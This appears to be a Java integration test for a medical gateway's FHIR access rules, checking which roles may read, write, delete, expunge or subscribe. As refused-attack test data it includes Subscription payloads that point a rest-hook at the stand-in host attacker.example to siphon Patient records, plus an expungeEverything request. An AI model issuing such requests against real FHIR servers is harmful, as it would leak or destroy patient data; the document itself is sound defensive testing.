package org.yiyang.gateway.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ca.uhn.fhir.rest.server.exceptions.ResourceNotFoundException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import org.hl7.fhir.r4.model.IdType;
import org.hl7.fhir.r4.model.Subscription;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.yiyang.gateway.GatewayClient;
import org.yiyang.gateway.fhir.FhirServer;
import org.yiyang.gateway.notify.SubscriptionWakeUp;

/**
 * The embedded {@code /fhir} is closed (ADR 0050): only the capability statement is open;
 * facilities and the other non-clinical roles are refused; a hospital searches, reads and writes
 * clinical and workflow resources but never deletes, expunges or touches Subscriptions — and a
 * refused write changes nothing. The FHIR server's wake-up call is accepted with its secret only.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FhirAccessIT extends SharedGateway {

  @Autowired FhirServer fhir;
  @Autowired Keyring keyring;

  private GatewayClient gateway;
  private GatewayClient hospital;
  private String patientId;

  @BeforeAll
  void aPatientWrittenByAHospital() throws Exception {
    gateway = new GatewayClient(port, dataDir);
    hospital = gateway.asHospital(GatewayClient.HOSPITAL);
    HttpResponse<String> created =
        fhirCall(
            hospital,
            "POST",
            "/fhir/Patient",
            "{\"resourceType\":\"Patient\",\"gender\":\"female\"}");
    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    patientId = GatewayClient.JSON.readTree(created.body()).path("id").asText();
  }

  @Test
  void onlyTheCapabilityStatementIsOpen() throws Exception {
    assertThat(gateway.anonymous().get("/fhir/metadata").statusCode()).isEqualTo(200);
    for (String path : new String[] {"/fhir/Patient", "/fhir/Patient/" + patientId, "/fhir"}) {
      HttpResponse<String> answer = gateway.anonymous().get(path);
      assertThat(answer.statusCode()).as(path).isEqualTo(401);
      GatewayClient.assertOutcome(answer, "GW-1030", "Authorization");
    }
  }

  @Test
  void facilitiesOperatorsAuditorsAndSupervisorsAreRefused() throws Exception {
    for (GatewayClient caller :
        new GatewayClient[] {
          gateway, gateway.as("operator"), gateway.as("auditor"), gateway.as("supervisor")
        }) {
      assertThat(caller.get("/fhir/Patient/" + patientId).statusCode()).isEqualTo(403);
      assertThat(caller.get("/fhir/Patient?gender=female").statusCode()).isEqualTo(403);
      HttpResponse<String> write =
          fhirCall(caller, "POST", "/fhir/Patient", "{\"resourceType\":\"Patient\"}");
      assertThat(write.statusCode()).isEqualTo(403);
      assertThat(write.body()).contains("OperationOutcome");
    }
  }

  @Test
  void aHospitalWorksOnClinicalResourcesButNeverDeletesExpungesOrSubscribes() throws Exception {
    assertThat(hospital.get("/fhir/Patient/" + patientId).statusCode()).isEqualTo(200);
    assertThat(hospital.get("/fhir/Patient?gender=female").statusCode()).isEqualTo(200);
    HttpResponse<String> encounter =
        fhirCall(
            hospital,
            "POST",
            "/fhir/Encounter",
            "{\"resourceType\":\"Encounter\",\"status\":\"finished\",\"class\":{\"system\":"
                + "\"http://terminology.hl7.org/CodeSystem/v3-ActCode\",\"code\":\"IMP\"}}");
    assertThat(encounter.statusCode()).as(encounter.body()).isEqualTo(201);

    HttpResponse<String> delete =
        hospital.send(hospital.request("/fhir/Patient/" + patientId).DELETE().build());
    assertThat(delete.statusCode()).as(delete.body()).isEqualTo(403);
    assertThat(hospital.get("/fhir/Patient/" + patientId).statusCode())
        .as("the refused delete changed nothing")
        .isEqualTo(200);

    HttpResponse<String> expunge =
        fhirCall(
            hospital,
            "POST",
            "/fhir/Patient/" + patientId + "/$expunge",
            "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"expungeEverything\","
                + "\"valueBoolean\":true}]}");
    assertThat(expunge.statusCode()).as(expunge.body()).isEqualTo(403);
    assertThat(hospital.get("/fhir/Patient/" + patientId).statusCode()).isEqualTo(200);

    HttpResponse<String> subscribe =
        fhirCall(
            hospital,
            "PUT",
            "/fhir/Subscription/stolen",
            "{\"resourceType\":\"Subscription\",\"id\":\"stolen\",\"status\":\"requested\","
                + "\"reason\":\"x\",\"criteria\":\"Patient?\",\"channel\":{\"type\":\"rest-hook\","
                + "\"endpoint\":\"https://attacker.example/h\"}}");
    assertThat(subscribe.statusCode()).as(subscribe.body()).isEqualTo(403);
    assertThatThrownBy(
            () ->
                fhir.client()
                    .read()
                    .resource(Subscription.class)
                    .withId(new IdType("Subscription", "stolen"))
                    .execute())
        .as("the refused Subscription was not stored")
        .isInstanceOf(ResourceNotFoundException.class);
    assertThat(hospital.get("/fhir/Subscription").statusCode()).isEqualTo(403);

    // A patch goes through the same write rules: a Patient yes, a Subscription no.
    HttpResponse<String> patched =
        hospital.send(
            hospital
                .request("/fhir/Patient/" + patientId)
                .header("Content-Type", "application/json-patch+json")
                .method(
                    "PATCH",
                    HttpRequest.BodyPublishers.ofString(
                        "[{\"op\":\"replace\",\"path\":\"/gender\",\"value\":\"female\"}]"))
                .build());
    assertThat(patched.statusCode()).as(patched.body()).isEqualTo(200);
    Subscription own = new Subscription();
    own.setId("gateway-own");
    own.setStatus(Subscription.SubscriptionStatus.OFF);
    own.setReason("test");
    own.setCriteria("Patient?");
    own.getChannel()
        .setType(Subscription.SubscriptionChannelType.RESTHOOK)
        .setEndpoint("https://gateway.example/h");
    fhir.client().update().resource(own).execute();
    HttpResponse<String> repointed =
        hospital.send(
            hospital
                .request("/fhir/Subscription/gateway-own")
                .header("Content-Type", "application/json-patch+json")
                .method(
                    "PATCH",
                    HttpRequest.BodyPublishers.ofString(
                        "[{\"op\":\"replace\",\"path\":\"/channel/endpoint\","
                            + "\"value\":\"https://attacker.example/h\"}]"))
                .build());
    assertThat(repointed.statusCode()).as(repointed.body()).isEqualTo(403);
    assertThat(
            fhir.client()
                .read()
                .resource(Subscription.class)
                .withId(new IdType("Subscription", "gateway-own"))
                .execute()
                .getChannel()
                .getEndpoint())
        .isEqualTo("https://gateway.example/h");
  }

  @Test
  void theWakeUpCallNeedsTheSubscriptionsSecret() throws Exception {
    String path = SubscriptionWakeUp.CALLBACK_PATH;
    assertThat(
            gateway
                .send(
                    gateway
                        .anonymous()
                        .request(path)
                        .POST(HttpRequest.BodyPublishers.noBody())
                        .build())
                .statusCode())
        .isEqualTo(401);
    assertThat(
            gateway
                .send(gateway.request(path).POST(HttpRequest.BodyPublishers.noBody()).build())
                .statusCode())
        .as("a facility's token is not the secret")
        .isEqualTo(401);
    HttpResponse<String> woken =
        gateway.send(
            HttpRequest.newBuilder(gateway.uri(path))
                .header("Authorization", "Bearer " + keyring.callbackSecret())
                .POST(HttpRequest.BodyPublishers.noBody())
                .build());
    assertThat(woken.statusCode()).isEqualTo(200);
  }

  private static HttpResponse<String> fhirCall(
      GatewayClient caller, String method, String path, String body) throws Exception {
    return caller.send(
        caller
            .request(path)
            .header("Content-Type", "application/fhir+json")
            .header("Accept", "application/fhir+json")
            .method(method, HttpRequest.BodyPublishers.ofString(body))
            .build());
  }
}
